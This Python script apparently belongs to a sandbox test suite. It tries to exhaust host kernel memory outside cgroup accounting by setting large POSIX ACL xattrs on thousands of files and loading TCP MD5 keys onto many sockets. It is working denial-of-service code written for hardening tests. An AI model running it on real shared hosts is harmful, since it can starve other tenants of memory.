"""Pin host kernel memory that no memory cgroup is charged for: a 64 KiB POSIX ACL on each of
3,000 files in the working directory (a tmpfs in the sandboxes), and TCP MD5 signature keys on
200 unconnected TCP sockets (socket option memory, up to net.core.optmem_max each). Neither needs
a network. Held for a second so the harness's watcher sees the host's unreclaimable slab grow;
the harness judges from /proc/meminfo, never from what this prints. The ACLs alone cross the
judge's 128 MiB bar; the MD5 keys add at most ~25 MiB (200 sockets x optmem_max), so their
refusal is proven by test_seccomp, not by this attack alone."""
import os
import socket
import struct
from chaoslib import start, say, hold

start()
# system.posix_acl_access: version 2, then (tag, perm, id) entries: USER_OBJ, 8,000 USER
# entries, GROUP_OBJ, MASK, OTHER; 64,036 bytes, just under the 64 KiB xattr limit.
entries = [struct.pack("=HHI", 0x01, 7, 0xFFFFFFFF)]
entries += [struct.pack("=HHI", 0x02, 4, uid) for uid in range(1, 8001)]
entries += [struct.pack("=HHI", tag, perm, 0xFFFFFFFF) for tag, perm in ((0x04, 4), (0x10, 7), (0x20, 4))]
acl = struct.pack("=I", 2) + b"".join(entries)
files = 0
try:
    for i in range(3000):
        name = "acl%d" % i
        open(name, "w").close()
        os.setxattr(name, "system.posix_acl_access", acl)
        files += 1
    say("ACLs set on", files, "files")
except OSError as e:
    say("ACLs stopped after", files, "files:", e)


def md5_key(i):
    sin = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 0) + struct.pack("!I", (10 << 24) | i)
    return sin + b"\0" * (128 - len(sin)) + struct.pack("=BBHi", 0, 0, 80, 0) + os.urandom(80)


keys, socks = 0, []
try:
    for n in range(200):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        socks.append(s)
        for i in range(1000):
            try:
                s.setsockopt(socket.IPPROTO_TCP, 14, md5_key(n * 1000 + i))  # TCP_MD5SIG
            except OSError as e:
                if i == 0:
                    raise
                break
            keys += 1
    say("TCP MD5 keys:", keys)
except OSError as e:
    say("TCP MD5 keys stopped after", keys, ":", e)
hold(1.0)
